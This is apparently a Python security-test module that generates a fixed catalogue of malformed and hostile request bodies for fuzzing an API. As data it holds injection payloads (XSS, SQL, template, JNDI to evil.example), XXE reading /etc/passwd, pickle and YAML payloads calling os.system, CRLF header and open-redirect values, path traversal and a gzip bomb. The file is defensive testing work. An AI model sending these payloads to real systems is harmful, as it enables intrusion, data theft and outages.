"""Hostile bodies, made by a small grammar, the same ones every time: `python -m tests.security.bodies` lists them."""

import gzip
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote

JSON, FORM, PARTS = "application/json", "application/x-www-form-urlencoded", "multipart/form-data"


@dataclass(frozen=True)
class Body:
    """What is sent, and what it says it is."""

    name: str
    raw: bytes
    kind: str = JSON
    headers: dict[str, str] = field(default_factory=dict)


VALUES = {
    "null": "null", "true": "true", "empty text": '""', "blank": '" "', "empty list": "[]", "empty object": "{}",
    "minus one": "-1", "a half": "0.5", "minus nought": "-0", "much": "9" * 400, "very much": "1" + "0" * 5000,
    "over 64 bits": str(2**64), "1e999": "1e999", "1e-999": "1e-999", "NaN": "NaN", "Infinity": "Infinity",
    "minus Infinity": "-Infinity", "hex": "0x10", "octal": "010", "a point before": ".5", "a point behind": "1.",
    "plus": "+1", "underscores": "1_000", "NUL spelled": r'"\u0000"', "high surrogate": r'"\ud800"',
    "low surrogate": r'"\udc00"', "surrogates turned round": r'"\udc00\ud800"', "unknown escape": r'"\x41"',
    "right to left": '"\u202ecod.exe"', "nothing to see": '"\u200b\u2060\ufeff"', "a flag": '"\U0001f1e9\U0001f1ea"',
    "combining": '"' + "e\u0301" * 200 + '"', "fullwidth": '"\uff12\uff10"', "a long text": '"' + "x" * 100_000 + '"',
    "markup": json.dumps("<svg onload=alert(1)>"), "sql": json.dumps("'; DROP TABLE orders; --"),
    "template": json.dumps("{{7*7}}${7*7}#{7*7}"), "jndi": json.dumps("${jndi:ldap://evil.example/a}"),
    "formula": json.dumps("=HYPERLINK(1)"), "path": json.dumps("../../etc/passwd"), "crlf": json.dumps("a\r\nX: 1"),
    "year nought": '"0000-00-00"', "far offset": '"9999-12-31T23:59:59-23:59"', "leap second": '"2026-06-30T23:59:60Z"',
    "a date as text": '"next friday"', "an object": '{"id": {"id": {"id": null}}}', "a list of lists": "[[[[1]]]]",
}  # fmt: skip
PLACES = {
    "alone": "%s", "as the id": '{"id": %s}', "as a name": '{%s: 1}', "in a list": '{"lines": [%s, %s]}',
    "deep": '{"data": {"object": {"id": %s}}}',
}  # fmt: skip
ENCODINGS = (
    "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "utf-7", "utf-8-sig", "latin-1", "cp037", "cp1252",
    "shift_jis", "gb18030", "iso2022_jp", "utf-8",
)  # fmt: skip
GOOD = json.dumps({"id": "evt_1", "number": "1001", "name": "Zoë", "lines": [{"sku": "A", "quantity": 1}]})
TWISTED = {
    "nothing": b"", "a blank": b" ", "line ends": b"\r\n\r\n", "a NUL": b"\0", "many NULs": b"\0" * 10_000,
    "no UTF-8": b"\xff\xfe\xfd", "half a letter": b'{"name": "\xc3', "overlong": b'{"name": "\xc0\xaf"}',
    "a surrogate in bytes": b'{"name": "\xed\xa0\x80"}', "a raw NUL in a text": b'{"name": "a\0b"}',
    "a raw line end in a text": b'{"name": "a\nb"}', "a mark within": b'{\xef\xbb\xbf"id": 1}',
    "a name twice": b'{"id": 1, "id": 2}', "a name twice, deep": b'{"a": {"id": 1, "id": 2}}',
    "a name twice, spelled": b'{"id": 1, "\\u0069d": 2}', "a comma too many": b'{"id": 1,}', "a comma first": b"[,1]",
    "a comment": b'{"id": 1} // what', "single quotes": b"{'id': 1}", "no quotes": b"{id: 1}",
    "two values": b'{"id": 1}{"id": 2}',
    "lines of values": b'{"id": 1}\n{"id": 2}\n', "a proto": b'{"__proto__": {"admin": true}}',
    "deep lists": b"[" * 100_000, "deep objects": b'{"a":' * 50_000, "deep and closed": b"[" * 900 + b"]" * 900,
    "too deep and closed": b"[" * 20_000 + b"]" * 20_000, "wide": b"[" + b"1," * 100_000 + b"1]",
    "many names": json.dumps({str(n): n for n in range(20_000)}).encode(),
    "a long name": json.dumps({"n" * 100_000: 1}).encode(),
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "laughs": b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>',
    "pickle": b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    "YAML": b"!!python/object/apply:os.system ['id']", "PHP": b'O:8:"stdClass":1:{s:1:"a";i:1;}',
    "a picture": b"GIF89a\x01\x00\x01\x00<script>alert(1)</script>", "a form where JSON is wanted": b"id=1&lines=2",
}  # fmt: skip
FORMS = {
    "a per cent": b"number=%&email=%", "no hex": b"number=%zz", "NUL": b"number=%00&email=a%00b",
    "no UTF-8": b"number=%ff%fe",
    "overlong": b"number=%c0%af", "twice": b"number=1&number=2&number=3", "no value": b"number&email",
    "no name": b"=1&=2",
    "only marks": b"&&&===", "semicolons": b"number=1;email=2", "plus": b"number=+++&email=+", "many": b"a=1&" * 1500,
    "a long name": b"a" * 50_000 + b"=1", "a long value": b"number=" + b"1" * 400_000,
    "brackets": b"number[]=1&number[a]=2",
    "dots": b"__class__.__init__=1", "crlf": b"email=a%0d%0aBcc:%20b@evil.example", "JSON in a form": b'{"number": 1}',
    "raw bytes": bytes(range(256)), "surrogate": b"number=%ed%a0%80", "a method of its own": b"_method=DELETE&number=1",
    "next": b"next=//evil.example&then=//evil.example", "minus": b"id=-1&quantity=-1&amount=-1&count=-5&seen=-1",
    "much": b"quantity=99999999999999999999&amount=1e999&count=99999999999&page=9",
    "half": b"quantity=1.5&amount=1,5,5",
    "letters": b"quantity=one&amount=%D9%A1%D9%A2",
    "a choice that is none": b"reason=none&role=god&state=approved&way=cash",
    "a day that is none": b"day=2026-02-30&until=0000-00-00&on=99999-01-01",
    "markup": b"words=%3Csvg%20onload%3Da%3E&note=%3Cscript%3E",
}  # fmt: skip
BOUNDARY = "multipart/form-data; boundary=b"
HEAD = b'Content-Disposition: form-data; name="file"; filename="%s"'
FILE = b"--b\r\n" + HEAD + b"\r\nContent-Type: text/csv\r\n\r\n%s\r\n--b--\r\n"
UPLOADS = {
    "no boundary": (PARTS, FILE % (b"a.csv", b"sku")),
    "another boundary": ("multipart/form-data; boundary=c", FILE % (b"a", b"b")),
    "an empty boundary": ("multipart/form-data; boundary=", FILE % (b"a", b"b")),
    "a long boundary": ("multipart/form-data; boundary=" + "b" * 5000, FILE % (b"a", b"b")),
    "cut in the head": (BOUNDARY, FILE[:30]), "cut in the file": (BOUNDARY, (FILE % (b"a", b"b" * 100))[:-60]),
    "no end": (BOUNDARY, (FILE % (b"a", b"b"))[:-8]), "an end only": (BOUNDARY, b"--b--\r\n"),
    "a path": (BOUNDARY, FILE % (b"../../etc/passwd", b"sku,on_hand\nA,1")),
    "a NUL in the name": (BOUNDARY, FILE % (b"a\0.csv", b"x")),
    "a line end in the name": (BOUNDARY, FILE % (b'a\r\nX: 1', b"x")),
    "quotes in the name": (BOUNDARY, FILE % (b'a"; name="b', b"x")),
    "no name": (BOUNDARY, b"--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--\r\n"),
    "no head": (BOUNDARY, b"--b\r\n\r\nx\r\n--b--\r\n"),
    "a part in a part": (BOUNDARY, FILE % (b"a", FILE % (b"b", b"c"))),
    "many parts": (BOUNDARY, FILE.replace(b"--b--\r\n", b"") % (b"a", b"b") * 1200 + b"--b--\r\n"),
    "a long head": (BOUNDARY, FILE.replace(b"text/csv", b"x" * 70_000) % (b"a", b"b")),
    "a file of NULs": (BOUNDARY, FILE % (b"a.csv", b"\0" * 5000)),
    "no UTF-8 in the file": (BOUNDARY, FILE % (b"a.csv", b"sku,on_hand\n\xff\xfe,1")),
    "a quote left open": (BOUNDARY, FILE % (b"a.csv", b'sku,on_hand\n"A,1')),
    "columns twice": (BOUNDARY, FILE % (b"a.csv", b"sku,sku,on_hand\nA,B,1")),
    "wide": (BOUNDARY, FILE % (b"a.csv", b"sku,on_hand\n" + b"A," * 9000)),
    "a spreadsheet": (BOUNDARY, FILE % (b"a.xlsx", b"PK\x03\x04" + bytes(200))),
    "a program": (BOUNDARY, FILE % (b"a.csv", b"MZ\x90\x00" + bytes(200))),
    "in base64": (
        BOUNDARY,
        FILE.replace(b"text/csv", b"text/csv\r\nContent-Transfer-Encoding: base64") % (b"a.csv", b"c2t1"),
    ),
}  # fmt: skip
KINDS = (
    "", "text/plain", "application/json; charset=utf-16", "application/json; charset=nothing", "application/xml",
    "image/png", "a/b/c",
    "application/json, text/html", "\u00fc/\u00fc", "application/x-www-form-urlencoded; charset=utf-7", "x" * 5000,
    "application/json;" * 50,
)  # fmt: skip


def all_bodies() -> Iterator[Body]:
    for place, pattern in PLACES.items():
        for what, value in VALUES.items():
            yield Body(f"{what}, {place}", pattern.replace("%s", value).encode("utf-8", "surrogatepass"))
    for encoding in ENCODINGS:
        yield Body(f"in {encoding}", GOOD.replace("Zoë", "Zo\\u00eb").encode(encoding, "replace"))
    yield from (Body(f"cut after {end}", GOOD.encode()[:end]) for end in range(1, len(GOOD), 5))
    yield from (Body(what, raw) for what, raw in TWISTED.items())
    yield from (Body(f"form: {what}", raw, FORM) for what, raw in FORMS.items())
    yield from (Body(f"parts: {what}", raw, kind) for what, (kind, raw) in UPLOADS.items())
    yield from (Body(f"said to be {quote(kind[:30])!r}", GOOD.encode(), kind) for kind in KINDS)
    bomb = gzip.compress(bytes(5_000_000), 9, mtime=0)
    for encoding in ("gzip", "deflate", "br", "identity, gzip"):
        yield Body(f"packed as {encoding}", bomb, JSON, {"Content-Encoding": encoding})


BODIES = tuple(all_bodies())

if __name__ == "__main__":
    for body in BODIES:
        print(f"{body.name:<50} {len(body.raw):>8}  {body.kind[:40]}")
